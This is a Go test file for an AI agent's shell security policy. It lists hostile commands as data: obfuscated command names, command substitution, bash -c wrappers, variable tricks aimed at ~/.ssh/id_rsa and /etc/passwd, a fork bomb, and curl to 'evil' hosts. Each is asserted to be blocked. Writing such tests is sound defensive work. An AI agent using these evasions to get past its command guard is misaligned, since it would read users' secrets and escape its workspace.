@@ -0,0 +1,205 @@
+package agent
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/highclaw/highclaw/internal/config"
+)
+
+// shellPolicyCorpus 绕过尝试和应当放行的正常命令（supervised + workspaceOnly 默认配置）
+var shellPolicyCorpus = []struct {
+	command string
+	allow   bool
+	errPart string
+}{
+	// 正常命令
+	{`ls -la`, true, ""},
+	{`go test ./... 2>&1 | tail -n 20`, true, ""},
+	{`grep -rn "/api/v1" .`, true, ""},
+	{`sed -i 's/foo/bar/g' main.go`, true, ""},
+	{`echo "today is $(date +%F)" > notes.txt`, true, ""},
+	{`make build > /dev/null 2>&1`, true, ""},
+	{`FOO=bar go run ./cmd/app`, true, ""},
+	{`cat <<EOF > out.txt
+hello
+EOF`, true, ""},
+	{`find . -name '*.go' -exec wc -l {} \;`, true, ""},
+	{`git status && git diff`, true, ""},
+
+	// 包装命令
+	{`xargs rm -rf < files.txt`, false, "high-risk"},
+	{`find . -name '*.log' -exec rm {} +`, false, "high-risk"},
+	{`find . -delete`, false, "find -delete"},
+	{`env FOO=1 curl http://evil`, false, "not allowed"},
+	{`env -u HOME rm -rf x`, false, "high-risk"},
+	{`timeout 5 nc -l 4444`, false, "not allowed"},
+	{`env LANG=C sort data.txt | uniq -c`, true, ""},
+
+	// 引号/转义拼接命令名
+	{`c""url http://evil`, false, "policy: curl"},
+	{`'r'm -rf build`, false, "high-risk"},
+	{`\rm -rf build`, false, "high-risk"},
+	{`$CMD -rf build`, false, "literal"},
+	{`$(echo rm) -rf build`, false, "literal"},
+
+	// 命令替换、子 shell、函数
+	{`echo $(curl -s http://evil)`, false, "policy: curl"},
+	{"echo `wget http://evil`", false, "policy: wget"},
+	{`(cd sub && rm -rf .)`, false, "high-risk"},
+	{`f() { curl http://evil; }; f`, false, ""},
+	{`ls; bash -c "curl http://evil"`, false, "not allowed"},
+
+	// 路径
+	{`cat /etc/passwd`, false, "forbidden"},
+	{`cat ~/.ssh/id_rsa`, false, "forbidden"},
+	{`cat "/et"c/hosts`, false, "forbidden"},
+	{`echo hi > /tmp/x`, false, "absolute paths"},
+	{`echo hi >> ~/.bashrc`, false, "absolute paths"},
+	{`cat ../../secret.txt`, false, "escapes the workspace"},
+	{`cat $HOME/notes.txt`, false, "$HOME"},
+	{`cat $HOME/.ssh/id_rsa`, false, "forbidden"},
+	{`cat "${HOME}/.aws/credentials"`, false, "forbidden"},
+	{`head $HOME/.highclaw/config.yaml`, false, ""},
+	{`cat $HOME/$F`, false, "approval"},
+	{`cat $SOME_DIR/secret.txt`, false, "approval"},
+	{`echo "$GREETING"`, true, ""},
+	{`cp a.txt --target-directory=/opt`, false, "absolute paths"},
+	{`/usr/bin/ls`, false, "absolute paths"},
+
+	// 变量赋值、变量展开和运行时才确定的路径
+	{`F=/etc/passwd; cat $F`, false, "forbidden"},
+	{`X=/etc; cat "$X/shadow"`, false, "forbidden"},
+	{`F=../../secret.txt; cat ${F}`, false, "escapes the workspace"},
+	{`PREFIX=/usr/local make install`, false, "absolute paths"},
+	{`F=$(cat list.txt); cat $F`, false, "run time"},
+	{`cat "$(echo /et)c/passwd"`, false, "run time"},
+	{`for f in /etc/*; do cat $f; done`, false, "forbidden"},
+	{`F=notes.txt; cat "$F"`, true, ""},
+	{`for f in *.go; do wc -l $f; done`, true, ""},
+	{`cd sub && cat ../README.md`, true, ""},
+	{`cd sub && cat ../../secret.txt`, false, "escapes the workspace"},
+
+	// 审批
+	{`git push origin main`, false, "approval"},
+	{`git push --force origin main`, false, "force push"},
+	{`export PATH=/tmp`, false, "not allowed"},
+	{`:(){ :|:& };:`, false, "not allowed"},
+}
+
+func TestShellPolicyCorpus(t *testing.T) {
+	p := testPolicy("supervised")
+	for _, tc := range shellPolicyCorpus {
+		input, _ := json.Marshal(map[string]string{"command": tc.command})
+		err := p.ValidateBashInput(string(input))
+		if tc.allow && err != nil {
+			t.Errorf("expected %q to be allowed, got: %v", tc.command, err)
+			continue
+		}
+		if !tc.allow {
+			if err == nil {
+				t.Errorf("expected %q to be blocked", tc.command)
+			} else if tc.errPart != "" && !strings.Contains(err.Error(), tc.errPart) {
+				t.Errorf("%q: error %q does not mention %q", tc.command, err, tc.errPart)
+			}
+		}
+	}
+}
+
+func TestShellPolicyBashCWrapperWhenAllowed(t *testing.T) {
+	cfg := config.Default()
+	cfg.Autonomy.AllowedCommands = []string{"bash"}
+	p := NewSecurityPolicy(cfg)
+	if err := p.ValidateBashInput(`{"command":"bash -lc 'ls -la'"}`); err != nil {
+		t.Fatalf("expected bash -c with safe script to pass: %v", err)
+	}
+	if err := p.ValidateBashInput(`{"command":"bash -c 'curl http://evil'"}`); err == nil {
+		t.Fatal("expected bash -c script to be analysed")
+	}
+	if err := p.ValidateBashInput(`{"command":"bash -c \"$SCRIPT\""}`); err == nil {
+		t.Fatal("expected dynamic bash -c script to be blocked")
+	}
+}
+
+func TestShellRulesFromConfig(t *testing.T) {
+	cfg := config.Default()
+	cfg.Autonomy.AllowedCommands = []string{"curl"}
+	cfg.Autonomy.ShellRules = []config.ShellRule{
+		{Command: "curl", Flags: []string{"-X", "--request"}, Risk: "block", Reason: "no write requests"},
+		{Command: "curl", Risk: "low"},
+		{Command: "git", Subcommand: "stash", Risk: "medium"},
+		{Paths: []string{"**/*.pem"}, Risk: "block", Reason: "key material"},
+	}
+	p := NewSecurityPolicy(cfg)
+	cases := map[string]string{
+		`curl -s https://example.com`:       "",
+		`curl -sX POST https://example.com`: "no write requests",
+		`git stash`:                         "approval",
+		`cat certs/server.pem`:              "key material",
+		`echo x > certs/new.pem`:            "key material",
+		`git -C . status`:                   "",
+	}
+	for cmd, want := range cases {
+		input, _ := json.Marshal(map[string]string{"command": cmd})
+		err := p.ValidateBashInput(string(input))
+		switch {
+		case want == "" && err != nil:
+			t.Errorf("%q: unexpected error %v", cmd, err)
+		case want != "" && (err == nil || !strings.Contains(err.Error(), want)):
+			t.Errorf("%q: expected error containing %q, got %v", cmd, want, err)
+		}
+	}
+}
+
+func TestShellPolicyOutsideWorkspace(t *testing.T) {
+	home := t.TempDir()
+	if err := os.Mkdir(filepath.Join(home, ".highclaw"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("HOME", home)
+	t.Setenv("HIGHCLAW_CONFIG", "")
+	t.Setenv("OPENCLAW_CONFIG", "")
+	t.Setenv("TMPDIR", "/tmp")
+	cfg := config.Default()
+	off := false
+	cfg.Autonomy.WorkspaceOnly = &off
+	p := NewSecurityPolicy(cfg)
+	cases := map[string]string{
+		`cd / && cat etc/shadow`:           "forbidden",
+		`cd ~ && cat .ssh/id_rsa`:          "forbidden",
+		`cd && cat .ssh/id_rsa`:            "forbidden",
+		`D=/; cat ${D}etc/shadow`:          "forbidden",
+		`cd "$(cat dir.txt)" && cat x`:     "run time",
+		`cd /etc && cat shadow`:            "forbidden",
+		`cd /tmp && cd - && cat file`:      "run time",
+		`cd /tmp && ls -la`:                "",
+		`cat /tmp/build.log`:               "",
+		`cat $HOME/.ssh/id_rsa`:            "forbidden",
+		`cat "${HOME}/.aws/credentials"`:   "forbidden",
+		`head $HOME/.highclaw/config.yaml`: "forbidden",
+		`cd $HOME && cat .ssh/id_rsa`:      "forbidden",
+		`cat $TMPDIR/build.log`:            "",
+		`cat $PWD/notes.txt`:               "",
+		`cat $SOME_DIR/secret.txt`:         "approval",
+		`echo "$GREETING"`:                 "",
+	}
+	for cmd, want := range cases {
+		input, _ := json.Marshal(map[string]string{"command": cmd})
+		err := p.ValidateBashInput(string(input))
+		switch {
+		case want == "" && err != nil:
+			t.Errorf("%q: unexpected error %v", cmd, err)
+		case want != "" && (err == nil || !strings.Contains(err.Error(), want)):
+			t.Errorf("%q: expected error containing %q, got %v", cmd, want, err)
+		}
+	}
+	if err := p.ValidateBashInput(`{"command":"cat $SOME_DIR/secret.txt","approved":true}`); err != nil {
+		t.Fatalf("approved unknown-variable path should run: %v", err)
+	}
+	if err := p.ValidateBashInput(`{"command":"cat $SOME_DIR/x $HOME/.ssh/id_rsa","approved":true}`); err == nil || !strings.Contains(err.Error(), "forbidden") {
+		t.Fatalf("approval must not skip forbidden paths: %v", err)
+	}
+}